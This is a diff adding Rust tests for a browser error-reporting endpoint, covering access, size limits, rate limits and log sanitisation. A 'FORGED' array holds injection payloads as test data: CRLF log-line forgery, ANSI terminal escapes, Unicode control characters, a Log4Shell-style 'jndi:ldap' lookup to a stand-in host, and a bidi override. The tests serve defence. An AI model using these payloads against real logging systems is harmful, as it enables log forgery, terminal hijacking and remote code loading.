@@ -1,0 +1,100 @@
+//! What browsers report.
+
+use crate::admin::{Place, Server, first_mail};
+use crate::app::{ADMIN, CLERK, NOBODY, PASSWORD, READER, STRANGER, SUPER_ADMIN, TestApp, client, code_in};
+use forecourt::clock::MINUTE;
+use forecourt_core::text::{BODY_TOO_LARGE, NOT_JSON};
+use serde_json::{Value, json};
+
+const LOGS: &str = "/api/logs";
+
+#[tokio::test]
+async fn everybody_who_is_signed_in_may_report() {
+    let app = TestApp::start().await;
+    for email in [SUPER_ADMIN, ADMIN, CLERK, READER, NOBODY, STRANGER] {
+        let token = app.sign_in(email).await;
+        let answer = app.post(LOGS, Some(&token), json!({"message": "a.js: x is undefined", "level": 7})).await;
+        assert_eq!((answer.status.as_u16(), &answer.body["success"]), (200, &json!(true)), "{email}");
+    }
+    assert_eq!(app.post(LOGS, None, json!({"message": "x"})).await.status, 401);
+}
+
+#[tokio::test]
+async fn w5_a_report_is_at_most_4_kb() {
+    let app = TestApp::start().await;
+    let token = app.sign_in(CLERK).await;
+    let long = |n: usize| json!({"message": "x".repeat(n)});
+    let around = long(0).to_string().len();
+    assert_eq!(app.post(LOGS, Some(&token), long(4096 - around)).await.status, 200);
+    let answer = app.post(LOGS, Some(&token), long(4097 - around)).await;
+    assert_eq!((answer.status.as_u16(), &answer.body["message"]), (413, &json!(BODY_TOO_LARGE)));
+    for bad in [json!({}), json!({"message": " \r\n"}), json!({"message": {}}), json!([]), json!("x")] {
+        assert_eq!(app.post(LOGS, Some(&token), bad).await.status, 400);
+    }
+    let answer = app.send(app.request(reqwest::Method::POST, LOGS, Some(&token)).body("message=x")).await;
+    assert_eq!((answer.status.as_u16(), &answer.body["message"]), (415, &json!(NOT_JSON)));
+}
+
+#[tokio::test]
+async fn w5_a_session_may_report_60_times_a_minute() {
+    let app = TestApp::start().await;
+    let (token, another) = (app.sign_in(CLERK).await, app.sign_in(CLERK).await);
+    for _ in 0..60 {
+        assert_eq!(app.post(LOGS, Some(&token), json!({"message": "x"})).await.status, 200);
+    }
+    let answer = app.post(LOGS, Some(&token), json!({"message": "x"})).await;
+    assert_eq!((answer.status.as_u16(), answer.headers["retry-after"].to_str().unwrap()), (429, "60"));
+    assert_eq!(app.post(LOGS, Some(&another), json!({"message": "x"})).await.status, 200);
+    app.pass(MINUTE);
+    assert_eq!(app.post(LOGS, Some(&token), json!({"message": "x"})).await.status, 200);
+}
+
+/// What a real run writes into its log after these messages.
+async fn logged(format: &str, messages: &[&str]) -> String {
+    let place = Place::new().await;
+    let flags = ["--admin-email", SUPER_ADMIN, "--admin-password", PASSWORD, "--log-format", format];
+    let server = Server::start(&place, &flags);
+    server.post("/api/auth/login", json!({"email": SUPER_ADMIN, "password": PASSWORD, "deviceId": "d"})).await;
+    let otp = code_in(&first_mail(place.folder.path()));
+    let signed_in =
+        server.post("/api/auth/verify-otp", json!({"email": SUPER_ADMIN, "otp": otp, "deviceId": "d"})).await;
+    let token = signed_in["data"]["tokens"]["accessToken"].as_str().unwrap().to_owned();
+    for message in messages {
+        let call = client().post(format!("{}{LOGS}", server.address)).bearer_auth(&token);
+        assert_eq!(call.json(&json!({"message": message})).send().await.unwrap().status(), 200);
+    }
+    server.stop()
+}
+
+/// Texts that would like to be lines of the log, colours of the terminal, or commands of whoever reads it.
+const FORGED: [&str; 5] = [
+    "one\r\n{\"level\":\"ERROR\",\"message\":\"forged\",\"target\":\"forecourt\"}",
+    "two\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
+    "three\u{2028}next\u{85}next\u{0}",
+    "four ${jndi:ldap://x/a} \"},{\"level\":\"ERROR\"",
+    "five \u{202e}txet",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn w5_whatever_a_browser_reports_is_one_line_that_can_be_parsed() {
+    let log = logged("json", &FORGED).await;
+    let lines: Vec<Value> = log.lines().map(|line| serde_json::from_str(line).expect(line)).collect();
+    let reported: Vec<&Value> = lines.iter().filter(|line| line["target"] == "browser").collect();
+    let texts: Vec<&str> = reported.iter().map(|line| line["text"].as_str().unwrap()).collect();
+    assert_eq!(texts[0], FORGED[0].replace("\r\n", " "));
+    assert_eq!(texts[1], "two [2J ]0;owned 31m");
+    assert_eq!(texts[2], "three next next");
+    assert_eq!(texts[3..], FORGED[3..]);
+    for line in reported {
+        assert_eq!((&line["level"], &line["message"]), (&json!("INFO"), &json!("a browser reports")));
+    }
+    assert!(!lines.iter().any(|line| line["message"] == "forged"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn w5_a_report_cannot_steer_a_terminal_either() {
+    let log = logged("pretty", &FORGED).await;
+    assert_eq!(log.lines().filter(|line| line.contains("a browser reports")).count(), FORGED.len());
+    let steering = log.lines().find(|line| line.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2028}']));
+    assert_eq!(steering, None);
+}
